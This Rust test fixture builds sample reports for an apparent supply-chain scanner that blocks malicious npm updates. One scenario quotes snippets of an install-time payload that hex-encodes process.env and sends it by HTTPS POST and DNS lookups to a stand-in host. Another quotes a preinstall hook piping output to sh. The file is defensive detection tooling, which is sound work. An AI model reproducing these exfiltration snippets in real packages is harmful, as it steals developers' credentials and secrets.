//! Named scenario reports, shared by the snapshot and schema tests. Each is what the gate would
//! produce for one situation; the renderers must do right by all of them.

use turncoat_finding::{Evidence, Level, Severity};
use turncoat_report::{
    Change, LockfileLocation, PackageReport, Report, ReportFinding, UnusedException, Verdict,
};

pub fn all() -> Vec<(&'static str, Report)> {
    vec![
        ("seed_takeover_blocked", seed_takeover_blocked()),
        ("benign_update_passes", benign_update_passes()),
        ("mixed_block_warn_pass", mixed_block_warn_pass()),
        ("empty_report", empty_report()),
        ("excepted_finding", excepted_finding()),
    ]
}

fn inputs() -> Vec<String> {
    vec![
        "origin/main:package-lock.json".to_string(),
        "package-lock.json".to_string(),
    ]
}

fn finding(code: &str, severity: Severity, level: Level, message: &str) -> ReportFinding {
    ReportFinding {
        code: code.to_string(),
        severity,
        level,
        message: message.to_string(),
        evidence: Vec::new(),
        excepted: None,
    }
}

fn with(mut f: ReportFinding, path: &str, line: u32, snippet: &str) -> ReportFinding {
    f.evidence
        .push(Evidence::at(path, line).with_snippet(snippet));
    f
}

fn package(
    name: &str,
    from: Option<&str>,
    to: Option<&str>,
    verdict: Verdict,
    findings: Vec<ReportFinding>,
    line: u32,
) -> PackageReport {
    PackageReport {
        name: name.to_string(),
        from: from.map(str::to_string),
        to: to.map(str::to_string),
        change: match (from, to) {
            (Some(_), Some(_)) => Change::Updated,
            (None, _) => Change::Added,
            (Some(_), None) => Change::Removed,
        },
        verdict,
        findings,
        lockfile: Some(LockfileLocation {
            path: "package-lock.json".to_string(),
            line,
        }),
        introduced_by: Vec::new(),
        rests_on_cache: Vec::new(),
        detonation: None,
    }
}

/// The seed incident: a maintainer account is taken over and a patch release adds an install
/// script that ships the environment out over HTTPS and DNS.
pub fn seed_takeover_blocked() -> Report {
    let findings = vec![
        with(
            finding(
                "new-install-script",
                Severity::High,
                Level::Deny,
                "3.1.5 adds a postinstall script; no earlier version had one",
            ),
            "package.json",
            9,
            r#""postinstall": "node lib/telemetry.js""#,
        ),
        with(
            with(
                finding(
                    "exfiltration-shape",
                    Severity::Critical,
                    Level::Deny,
                    "install-time code reads process.env and sends it to a host the package never contacted before",
                ),
                "lib/telemetry.js",
                14,
                "const payload = Buffer.from(JSON.stringify(process.env)).toString(\"hex\");",
            ),
            "lib/telemetry.js",
            22,
            r#"https.request({ hostname: "cdn-sanitizer-metrics.com", method: "POST" })"#,
        ),
        with(
            finding(
                "new-dns-from-data",
                Severity::High,
                Level::Deny,
                "3.1.5 resolves host names built from data (DNS exfiltration); 3.1.4 made no DNS queries",
            ),
            "lib/telemetry.js",
            31,
            "dns.resolve(`${chunk}.t.cdn-sanitizer-metrics.com`, () => {})",
        ),
    ];
    Report::new(
        "diff",
        inputs(),
        vec![package(
            "secure-data-sanitizer",
            Some("3.1.4"),
            Some("3.1.5"),
            Verdict::Block,
            findings,
            1187,
        )],
    )
}

/// Ordinary updates: nothing new that matters; one allowed finding stays out of sight.
pub fn benign_update_passes() -> Report {
    Report::new(
        "diff",
        inputs(),
        vec![
            package(
                "chalk",
                Some("5.3.0"),
                Some("5.4.1"),
                Verdict::Pass,
                vec![],
                402,
            ),
            package(
                "@types/node",
                Some("22.10.1"),
                Some("22.10.2"),
                Verdict::Pass,
                vec![with(
                    finding(
                        "became-minified",
                        Severity::Low,
                        Level::Allow,
                        "index.d.ts is now a single 4 kB line",
                    ),
                    "index.d.ts",
                    1,
                    "declare module \"node:fs\"{export function readFileSync(p:string):Buffer;…",
                )],
                88,
            ),
        ],
    )
}

/// A payload hidden one level down (an added, blocked dependency), a young release that only
/// warns, and a clean update.
pub fn mixed_block_warn_pass() -> Report {
    let mut added = package(
        "color-convert-plus",
        None,
        Some("1.0.2"),
        Verdict::Block,
        vec![
            with(
                finding(
                    "new-install-script",
                    Severity::High,
                    Level::Deny,
                    "new package with a preinstall script",
                ),
                "package.json",
                6,
                r#""preinstall": "node ./build | sh""#,
            ),
            with(
                finding(
                    "release-too-new",
                    Severity::Medium,
                    Level::Warn,
                    "published 40 minutes ago; the cooldown is 2 days",
                ),
                "package.json",
                3,
                r#""version": "1.0.2""#,
            ),
        ],
        2051,
    );
    added.introduced_by = vec!["tiny-color".to_string()];
    Report::new(
        "diff",
        inputs(),
        vec![
            package(
                "ms",
                Some("2.1.2"),
                Some("2.1.3"),
                Verdict::Pass,
                vec![],
                1530,
            ),
            package(
                "tiny-color",
                Some("2.0.0"),
                Some("2.0.1"),
                Verdict::Warn,
                vec![finding(
                    "release-too-new",
                    Severity::Medium,
                    Level::Warn,
                    "published 3 hours ago; the cooldown is 2 days",
                )],
                2210,
            ),
            added,
        ],
    )
}

/// A lockfile change that touched no package.
pub fn empty_report() -> Report {
    Report::new("diff", inputs(), Vec::new())
}

/// A reviewed install script accepted by a policy exception, and a stale exception that
/// matched nothing.
pub fn excepted_finding() -> Report {
    let mut accepted = with(
        finding(
            "new-install-script",
            Severity::High,
            Level::Deny,
            "0.25.0 adds a postinstall script; no earlier version had one",
        ),
        "package.json",
        12,
        r#""postinstall": "node install.js""#,
    );
    accepted.excepted = Some("reviewed: postinstall only selects the platform binary".to_string());
    let mut report = Report::new(
        "diff",
        inputs(),
        vec![package(
            "esbuild",
            Some("0.24.2"),
            Some("0.25.0"),
            Verdict::Pass,
            vec![accepted],
            640,
        )],
    );
    report.unused_exceptions.push(UnusedException {
        package: "left-pad@1.3.0".to_string(),
        reason: "vendored copy, reviewed (expired 2025-06-30)".to_string(),
        line: Some(18),
    });
    report
}
